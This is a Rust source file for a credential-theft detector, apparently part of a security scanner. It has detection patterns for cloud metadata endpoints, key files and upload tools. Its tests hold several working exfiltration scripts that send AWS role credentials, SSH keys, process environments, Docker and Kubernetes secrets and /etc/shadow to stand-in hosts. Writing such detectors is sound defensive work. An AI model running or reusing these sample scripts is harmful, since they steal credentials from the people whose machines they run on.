//! Recognises scripts that collect credentials and send them away.
//!
//! Many programs read a key or ask the cloud who they are, and many send something. A script that does both, and reads keys of
//! several owners or sends to a bare address, serves somebody else. A client of one cloud reads that cloud's keys alone: to a
//! named host, keys of at least three kinds must go.
//!
//! - Sees: role credentials from cloud metadata services (AWS, ECS, Google, Azure, Alibaba, Oracle), key files (SSH, AWS, Docker,
//!   Kubernetes, Git, npm, PyPI, gcloud, browsers, wallets, shadow), service-account tokens, process environments, files of other
//!   containers through the Docker socket and all secrets of a cluster, in one script with an upload by curl, wget, netcat,
//!   `/dev/tcp`, DNS, FTP, mail, Python, Node, PHP, Perl, Ruby, Go or PowerShell; package installers that send the environment.
//! - Misses: an upload in another file; a destination that is put together; compiled programs (`credential-collector`).
//! - False alarms: backup jobs of home folders to a bare address; cloud SDKs and agents (they send to no address of their own:
//!   quiet), penetration testing tools with an address in an example.
//! - Source: the clouds' metadata documentation; ATT&CK T1552.001, T1552.005, T1552.007, T1041.

use std::sync::LazyLock;

use model::{Category, Confidence, Maturity, Severity, Weight};
use regex::Regex;

use super::{About, Detector, Match, Sample, Scope};
use crate::shell::{
    Host,
    clues::{Clue, Clues, Group},
    code::is_code,
    sending::{Destination, destination},
    text,
};

/// Bytes around the clues in which a destination is looked for.
const NEAR_BYTES: usize = 8 << 10;

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "credential-theft",
        title: "Collects credentials and sends them away",
        category: Category::CredentialTheft,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &["T1552.001", "T1552.005", "T1041"],
    },
    scope: Scope::Content {
        kinds: text::TEXT_KINDS,
        literals: &[
            "169.254.169.254",
            "169.254.170.2",
            "metadata.google.internal",
            "100.100.100.200",
            "iam/security-credentials",
            "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
            ".ssh/",
            "id_rsa",
            "id_ed25519",
            ".aws/",
            ".docker/config",
            ".kube/config",
            ".git-credentials",
            "kubernetes.io/serviceaccount",
            ".config/gcloud",
            ".azure/",
            ".netrc",
            ".npmrc",
            ".pypirc",
            "/etc/shadow",
            "Login Data",
            "logins.json",
            "wallet.dat",
            ".bash_history",
            ".pgpass",
            "/environ",
            "/proc/*/env",
            "/archive?path=",
            "api/v1/secrets",
            "get secret",
            "os.environ",
            "process.env",
            "printenv",
            "ENV.to_h",
            "os.Environ()",
            "$_ENV",
            "env |",
            "(env)",
            "`env`",
            "curl ",
            "wget ",
            "/dev/tcp/",
            " nc ",
            "\nnc ",
            "|nc ",
            "ncat ",
            "scp ",
            "rsync ",
            "requests.post",
            "requests.put",
            "urlopen(",
            "urllib.request",
            "http.client",
            "axios.post",
            "fetch(",
            "https.request",
            "http.request",
            "file_get_contents(\"http",
            "CURLOPT_POSTFIELDS",
            "http.Post",
            "Net::HTTP",
            "LWP::UserAgent",
            "sendall(",
            "Net::FTP",
            "Net::SMTP",
            "ftplib",
            "smtplib",
            "sendDocument",
            "sendMessage",
            "api/webhooks",
            "Invoke-WebRequest",
            "Invoke-RestMethod",
            "nslookup ",
            "dig ",
            "gethostbyname(",
        ],
    },
    inspect,
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// Temporary credentials of the machine's role.
    Metadata,
    /// A file with a key or token.
    Key,
    /// The environment of this process.
    Environment,
    /// What belongs to others: other processes, other containers, a whole cluster.
    Others,
    /// Sends something.
    Send,
}

const CLUES: &[Clue<Role>] = &[
    (
        Role::Metadata,
        "asks the cloud for the machine's credentials",
        r"meta-data/iam|iam/security-credentials|169\.254\.170\.2|AWS_CONTAINER_CREDENTIALS_RELATIVE_URI|computeMetadata/v1[^\n]{0,80}(?:token|identity|service-accounts|recursive)|metadata/identity/oauth2|meta-data/ram/security|169\.254\.169\.254/(?:opc/v\d/(?:identity|instance)|latest/(?:user-data|dynamic)|metadata/v1|openstack)",
    ),
    (
        Role::Key,
        "reads SSH keys",
        r"\.ssh/(?:id_|\*|identity|config\b|known_hosts)|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|(?:tar|zip|cp|cat|find|rsync|scp|ls|grep)\b[^\n]{0,80}\.ssh/?(?:[\s\x22';|)]|$)",
    ),
    (Role::Key, "reads AWS credentials", r"\.aws/(?:credentials|config|\*|sso)|\.aws/?(?:[\s\x22';|)]|$)"),
    (Role::Key, "reads registry logins", r"\.docker/config"),
    (
        Role::Key,
        "reads Kubernetes access",
        r"\.kube/config|kubernetes\.io/serviceaccount/token|kubernetes\.io/serviceaccount/?[\x22'\s;]",
    ),
    (Role::Key, "reads Git credentials", r"\.git-credentials|\.netrc\b"),
    (Role::Key, "reads package registry tokens", r"\.npmrc\b|\.pypirc\b"),
    (Role::Key, "reads gcloud or Azure credentials", r"\.config/gcloud|application_default_credentials\.json|\.azure/"),
    (Role::Key, "reads password hashes", r"/etc/shadow\b"),
    (Role::Key, "reads saved browser logins", r"\bLogin Data\b|\blogins\.json\b|key4\.db|cookies\.sqlite"),
    (Role::Key, "reads wallets", r"\bwallet\.dat\b|\.electrum|\.ethereum/keystore|\.bitcoin/"),
    (Role::Key, "reads shell history", r"\.(?:bash|zsh)_history\b"),
    (Role::Key, "reads database passwords", r"\.pgpass\b|\.my\.cnf\b"),
    (
        Role::Others,
        "reads files of other containers",
        r"/containers/[^\s\x22']{1,80}/archive\?path=[^\n]*(?:\.aws|\.docker|\.ssh|\.kube|shadow|environ|\.env\b|secret|credential)",
    ),
    (
        Role::Others,
        "reads all secrets of a cluster",
        r"/api/v1/(?:namespaces/[^/\s]+/)?secrets\b(?:[\s\x22'`)?]|$)|\bkubectl\s[^\n]*\bget\s+secrets?\s[^\n]*(?:--all-namespaces|\s-A\b)",
    ),
    (
        Role::Others,
        "reads the environment of processes",
        r"/proc/\*/env\*|/proc/(?:\*|[\x22'$]?\{?\$?\w*\}?|\[0-9\][^/\s]*|\d+|%[ds]|self|\x22 ?\+ ?\w+ ?\+ ?\x22)/environ\b|/proc[^\n]{0,40}environ\b",
    ),
    (
        Role::Environment,
        "takes the whole environment",
        r"(?:dumps|dict|str|urlencode|items|b64encode|repr)\(\s*(?:dict\()?(?:os\.)?environ\b(?:\)|,|\.copy\(\)|\.items\(\))|(?:JSON\.stringify|Object\.entries|querystring\.stringify)\(\s*process\.env\s*[,)]|(?:data|json|body|env|environment)[\x22']?\s*[:=]\s*(?:dict\(os\.environ\)|os\.environ|process\.env|\{\s*\.\.\.process\.env)\s*[,})\n;]|json_encode\(\s*(?:\$_ENV|\$_SERVER|getenv\(\))|ENV\.to_h|strings\.Join\(os\.Environ\(\)|Marshal\(os\.Environ\(\)|(?:^|[\s;(&|`$\x22'])(?:/usr/bin/)?(?:env|printenv|export -p)\s*(?:\||>|\)|`)|\$\((?:env|printenv)\b",
    ),
    (
        Role::Send,
        "uploads",
        r"(?s)\bcurl\b.*(?:\s-[a-zA-Z]*[dFT]\b|\s--(?:data|form|upload-file|json)|\s-X\s*[\x22']?(?:POST|PUT))|(?s)\bwget\b.*--(?:post-file|post-data|body-file|body-data|method[= ]P(?:OS|U)T)|\b(?:curl|wget)\b[^\n]*\?[^\n]*=[^\n]*(?:\$\(|`|\$\{?\w)",
    ),
    (
        Role::Send,
        "sends over a socket",
        r"\bNet::(?:FTP|SMTP)->new|\bftplib\.FTP|\bsmtplib\.SMTP|\bftp_(?:put|fput)\(|(?:\||<)\s*(?:nc|ncat|netcat|busybox nc)\s|\b(?:nc|ncat|netcat)\s[^\n|;]{0,80}\s<|>\s*&?\s*/dev/(?:tcp|udp)/|\.sendall\(|openssl s_client",
    ),
    (
        Role::Send,
        "copies to another machine",
        r"\b(?:scp|rsync)\s[^\n]{0,160}\w+@[\w.$\{\}-]+:|\bftp\s+-n|\bcurl\b[^\n]*\bftp://",
    ),
    (
        Role::Send,
        "posts",
        r"requests\.(?:post|put)\(|axios\.(?:post|put)\(|axios\(\{|urlopen\(\s*[^\n)]{0,80}(?:data\s*=|,|Request|\breq\b)|urllib\.request\.Request\(|HTTPS?Connection\(|\bhttps?\.request\(|\bfetch\(\s*[\x22'`]?(?:https?:|\w+\s*,)|CURLOPT_POSTFIELDS|http\.Post(?:Form)?\(|Net::HTTP\.post|->post\(|Invoke-(?:WebRequest|RestMethod)\b[^\n]*Post|httpx\.post\(|sendDocument|sendMessage|api/webhooks|\.upload_?file\(",
    ),
    (
        Role::Send,
        "sends by name lookups",
        r"\b(?:nslookup|dig|host)\s[^\n]*(?:\$\(|\$\{?\w+\}?\.)|gethostbyname\([^\n)]*\+",
    ),
];

static TABLE: LazyLock<Clues<Role>> = LazyLock::new(|| Clues::new(CLUES));

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    TABLE.groups(sample).into_iter().filter_map(|group| judged(sample, &group)).take(4).collect()
}

/// How a program is told a host without a URL.
static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:\bhost(?:name)?['"]?\s*[:=]\s*|Net::(?:FTP|SMTP)->new\(\s*|(?:HTTPS?Connection|\.FTP|\.SMTP(?:_SSL)?|ftp_connect)\(\s*)['"`]([\w.-]{4,})['"`]"#,
    )
    .expect("the pattern is a constant, and a test runs it")
});

fn judged(sample: &Sample<'_>, group: &Group<Role>) -> Option<Match> {
    let keys = group.count(Role::Key);
    let others = group.count(Role::Others);
    let metadata = usize::from(group.has(Role::Metadata));
    let environment = usize::from(group.has(Role::Environment));
    let kinds = keys + others + metadata + environment;
    if kinds == 0 || !group.has(Role::Send) {
        return None;
    }
    let (first, last) = (group.0.first()?.offset, group.0.last()?.offset);
    let (_, near) = sample.around(first, NEAR_BYTES, (last - first).saturating_add(NEAR_BYTES));
    let code = String::from_utf8_lossy(near);
    let (destination, written) = sent_to(&code);
    let takes_everything = others + environment > 0;
    let weight = match destination {
        Destination::Odd if kinds + metadata > 1 || takes_everything => Weight::Proof,
        Destination::Odd => Weight::Sign,
        Destination::Named if kinds > 2 && others > 0 || keys > 3 && kinds > 4 => Weight::Proof,
        Destination::Named if kinds > 3 || keys > 2 || keys > 0 && environment > 0 => Weight::Sign,
        Destination::Unknown if keys > 3 => Weight::Sign,
        Destination::Named | Destination::Unknown => return None,
    };
    // A file that no interpreter reads as it is (a list, a manifest) is weaker.
    let weight = match weight {
        weight if is_code(sample) => weight,
        Weight::Proof => Weight::Sign,
        _ => return None,
    };
    let mut found = group.found(weight);
    if destination != Destination::Unknown {
        let to = model::text::shortened(&written, 60).into_owned();
        found = Match { summary: Match::new(format!("to {to}: {}", found.summary), None).summary, ..found };
    }
    Some(found)
}

/// Where `code` sends to, also by a host that stands alone.
fn sent_to(code: &str) -> (Destination, String) {
    let (destination, written) = destination(code);
    if destination != Destination::Unknown {
        return (destination, written);
    }
    let hosts = HOST.captures_iter(code).filter_map(|found| found.get(1)).take(64);
    let outside = hosts.map(|host| host.as_str()).find(|host| Host::of(host).is_outside());
    outside.map_or((destination, written), |host| {
        let odd = Host::of(host).is_odd();
        (if odd { Destination::Odd } else { Destination::Named }, host.to_owned())
    })
}

#[cfg(test)]
mod tests {
    use model::Weight;

    use super::DETECTOR;
    use crate::detectors::testing::run;

    #[track_caller]
    fn check(text: &str, expected: Option<Weight>) {
        let found = run(&DETECTOR, "x", 0o644, text.as_bytes());
        assert_eq!(found.first().and_then(|found| found.weight), expected, "{text}: {found:?}");
    }

    #[test]
    fn collecting_and_sending_is_theft() {
        for text in [
            "#!/bin/sh\nr=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nc=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$r)\ncurl -s -X POST -d \"$c\" http://198.51.100.7/c\n",
            "#!/bin/bash\ntar czf /tmp/k.tgz ~/.ssh/id_rsa ~/.aws/credentials ~/.docker/config.json\ncurl \\\n  -F f=@/tmp/k.tgz \\\n  http://198.51.100.7/up\n",
            "#!/bin/sh\nfor p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done > /tmp/e\ncat /proc/*/environ | nc 198.51.100.7 9001\n",
            "import os, json, urllib.request\nreq = urllib.request.Request('http://198.51.100.7/e', data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)\n",
            "const https = require('https');\nconst b = JSON.stringify(process.env);\nconst r = https.request({host:'webhook.site',path:'/x',method:'POST'});\nr.end(b)\n",
            "import requests\nH = '198.51.100.7'\nt = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers=h).text\nrequests.post('http://%s/' % H, data=t)\n",
            "#!/bin/sh\nS=/var/run/docker.sock\nfor i in $(curl -s --unix-socket $S http://localhost/containers/json | jq -r .[].Id); do\n  curl -s --unix-socket $S \"http://localhost/containers/$i/archive?path=/root/.aws/credentials\" >> /tmp/t\n  curl -s --unix-socket $S \"http://localhost/containers/$i/archive?path=/root/.docker/config.json\" >> /tmp/t\ndone\ncurl -s -T /tmp/t https://drop.lazaret-corpus.net/up\n",
            "#!/bin/bash\nT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -s -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/secrets > /tmp/s\ncurl -s --data-binary @/tmp/s http://198.51.100.7:8080/k\n",
            "#!/usr/bin/perl\nuse Net::FTP;\nmy @f = ('/etc/shadow', glob('/home/*/.my.cnf'), glob('/home/*/.ssh/id_*'));\nmy $ftp = Net::FTP->new('198.51.100.7');\n$ftp->put($_) for @f;\n",
            "if (process.env.CI) process.exit(0);\nconst https = require('https'), fs = require('fs');\nconst files = ['.npmrc', '.git-credentials', '.aws/credentials', '.ssh/id_rsa', '.docker/config.json'];\nconst all = { env: process.env, files: files.map(f => fs.readFileSync(f)) };\nhttps.request({ host: 'c.lazaret-corpus.net', method: 'POST' }).end(JSON.stringify(all));\n",
        ] {
            check(text, Some(Weight::Proof));
        }
    }

    #[test]
    fn honest_use_of_one_or_the_other_is_silent() {
        for text in [
            "#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | jq .\n",
            "#!/bin/sh\nmkdir -p ~/.ssh; ssh-keyscan github.com >> ~/.ssh/known_hosts\ncurl -fsSL https://deb.debian.org/x -o x\n",
            "import boto3, requests\nURL = 'http://169.254.170.2'\nrequests.get(URL + os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'])\nrequests.post('https://sts.amazonaws.com/', data=x)\n",
            "#!/bin/sh\ncurl -d status=up http://198.51.100.7/health\n",
            "import os, http.client\nCONFIG = os.path.expanduser('~/.aws/credentials')\nif os.environ.get('AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'):\n    c = http.client.HTTPConnection('169.254.170.2')\nROLE = '/latest/meta-data/iam/security-credentials/'\nweb = 'https://s3.amazonaws.com'\n",
            "const x = process.env.HOME;\nfetch('https://api.vendor.com/x', {method: 'POST'})\n",
        ] {
            check(text, None);
        }
    }
}
